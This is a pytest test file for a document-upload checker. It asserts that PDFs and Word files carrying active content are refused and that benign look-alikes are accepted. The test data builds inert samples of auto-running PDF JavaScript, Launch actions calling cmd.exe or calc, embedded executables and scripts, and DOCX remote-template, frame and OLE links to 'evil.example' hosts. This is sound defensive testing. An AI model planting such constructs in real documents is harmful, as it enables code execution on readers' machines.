"""Papers that would do something by themselves are refused; what merely looks alike is not."""

import json

import pytest

from gis.documents.looking import FOUND, look
from gis.errors import UnsafeArchive
from tests.papers.files import docx, laid_out, packed_pdf, pdf

SCRIPT = "<</S/JavaScript/JS(app.alert\\(1\\))>>"
FILE = b"<</Length 5>>stream\nhello\nendstream"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


@pytest.fixture
def looked(tmp_path):
    """What is found out about a paper with this content."""

    def look_at(content, suffix=".pdf"):
        path, folder = tmp_path / f"a{suffix}", tmp_path / "seen"
        path.write_bytes(content)
        folder.mkdir()
        look(str(path), str(folder), suffix, 10**6, 1, lambda done, total: None)
        assert not (folder / "scratch").exists()
        return json.loads((folder / FOUND).read_text())

    return look_at


def attached(name, *more):
    """A PDF with a file in its list of attachments."""
    tree = f"/Names<</EmbeddedFiles<</Names[(a) <</Type/Filespec{name}/EF<</F 4 0 R>>>>]>>>>"
    return laid_out(FILE, *more, catalog=tree)


def clipped(name, *more):
    """One with a file hanging on a note of its page, which is in no list."""
    note = f"<</Subtype/FileAttachment/Rect[0 0 9 9]/FS<<{name}/EF<</F 4 0 R>>>>>>"
    return laid_out(FILE, *more, page=f"/Annots[{note}]")


PDFS = {
    "list of scripts": laid_out(SCRIPT, catalog="/Names<</JavaScript<</Names[(a) 4 0 R]>>>>"),
    "opening": laid_out(SCRIPT, catalog="/OpenAction 4 0 R"),
    "opening, in place": laid_out(catalog=f"/OpenAction{SCRIPT}"),
    "afterwards": laid_out(SCRIPT, catalog="/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next 4 0 R>>"),
    "page": laid_out(page=f"/AA<</O{SCRIPT}>>"),
    "closing": laid_out(catalog=f"/AA<</WC{SCRIPT}>>"),
    "link": laid_out(page=f"/Annots[<</Subtype/Link/Rect[0 0 9 9]/A{SCRIPT}>>]"),
    "escaped": laid_out(catalog="/OpenAction<</S%x\n/#4aava#53cript/JS(x)>>"),
    "sort elsewhere": laid_out("/JavaScript", catalog="/OpenAction<</S 4 0 R/JS(x)>>"),
    "packed": packed_pdf(SCRIPT),
    "program": laid_out(catalog="/OpenAction<</S/Launch/F(cmd.exe)>>"),
    "program by a click": laid_out(
        page="/Annots[<</Subtype/Link/Rect[0 0 9 9]/A<</S/Launch/Win<</F(calc)>>>>>>]"
    ),
    "attached": attached("/F(setup.exe)"),
    "attached, wide": attached("/UF<FEFF0061002E006800740061>"),
    "attached, trailing": attached("/F(\\346\\212\\245\\350\\241\\250.pdf.SCR. )"),
    "attached, named elsewhere": attached("/F 5 0 R", "(a.vbs)"),
    "clipped": clipped("/F(a.js)"),
    "clipped, named elsewhere": clipped("/F 5 0 R", "(a.lnk)"),
}


@pytest.mark.parametrize("case", PDFS)
def test_a_pdf_that_runs_something_is_refused(looked, case):
    with pytest.raises(UnsafeArchive) as refusal:
        looked(PDFS[case])
    assert refusal.value.code == "script_inside"


HARMLESS = {
    "plain": pdf(2),
    "opens at a place": laid_out(catalog="/OpenAction[3 0 R/Fit]"),
    "packed": packed_pdf("<</S/GoTo/D[3 0 R/Fit]>>"),
    "invoice": attached("/F(invoice.xml)/UF(invoice.xml)/AFRelationship/Data"),
    "OFD": clipped("/UF<FEFF539F4EF6002E006F00660064>"),
    "signed": laid_out(
        "<</FT/Sig/T(s)/V 5 0 R/Subtype/Widget/Rect[0 0 0 0]>>",
        "<</Type/Sig/Filter/Adobe.PPKLite/SubFilter/adbe.pkcs7.detached"
        "/ByteRange[0 1 2 3]/Contents<3082>>>",
        catalog="/AcroForm<</SigFlags 3/Fields[4 0 R]>>",
        page="/Annots[4 0 R]",
    ),
    "address": laid_out(
        page="/Annots[<</Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(http://www.example.com)>>>>]"
    ),
    "address of a file": laid_out(
        page="/Annots[<</Subtype/Link/Rect[0 0 9 9]/A<</S/GoToR/D[0/Fit]"
        "/F<</FS/URL/F(http://www.example.com)>>>>>>]"
    ),
    "titled": laid_out("(setup.exe)", "(/S/Java Script)", catalog="/Lang 4 0 R/Title 5 0 R"),
}


@pytest.mark.parametrize("case", HARMLESS)
def test_an_ordinary_pdf_is_taken(looked, case):
    assert looked(HARMLESS[case])["format"] == "pdf"


def related(sort, target, mode="", prefix=OFFICE):
    """Relations of a docx with one more part."""
    mode = f' TargetMode="{mode}"' if mode else ""
    row = f'<Relationship Id="r1" Type="{prefix}/{sort}" Target="{target}"{mode}/>'
    space = "http://schemas.openxmlformats.org/package/2006/relationships"
    rows = f'<Relationships xmlns="{space}">{row}</Relationships>'
    return docx(**{"word___rels__settings.xml.rels": rows})


STRICT = "http://purl.oclc.org/ooxml/officeDocument/relationships"
PACKAGES = {
    "template": related("attachedTemplate", "https://evil.example/a.dotm", "External"),
    "template, strict": related("attachedTemplate", "http://x/a", "External", STRICT),
    "template of a share": related("attachedTemplate", "file:///\\\\evil\\a.dotx", "External"),
    "share, escaped": related("attachedTemplate", "file:///%5C%5Cevil%5Ca.dotx", "External"),
    "share, slashes": related("attachedTemplate", "//evil/a.dotx", "external"),
    "frame": related("frame", "http://evil.example/a", "External"),
    "object": related("oleObject", "media/image1.png"),
    "object elsewhere": related("oleObject", "mhtml:http://evil.example/a!x", "External"),
    "control": related("control", "controls/a.xml"),
    "object's part": docx(**{"word__embeddings__oleObject1.BIN": b"x"}),
    "control's part": docx(**{"word__activeX__activeX1.xml": b"<x/>"}),
    "program": docx(**{"word__embeddings__a.exe": b"MZ"}),
    "workbook with macros": docx(**{"word__embeddings__a.xlsm": b"PK"}),
}


@pytest.mark.parametrize("case", PACKAGES)
def test_a_paper_that_brings_a_program_is_refused(looked, case):
    with pytest.raises(UnsafeArchive) as refusal:
        looked(PACKAGES[case], ".docx")
    assert refusal.value.code == "macros_inside"


@pytest.mark.parametrize(
    "content",
    [
        related("attachedTemplate", "file:///C:\\Users\\wang\\Normal.dotm", "External"),
        related("attachedTemplate", "Normal.dotm", "External"),
        related("hyperlink", "https://www.example.com", "External"),
        related("package", "embeddings/Microsoft_Excel_Sheet1.xlsx"),
        docx(**{"word__embeddings__Microsoft_Excel_Sheet1.xlsx": b"PK"}),
    ],
)
def test_what_office_programs_write_everywhere_is_taken(looked, content):
    assert looked(content, ".docx")["format"] == "docx"
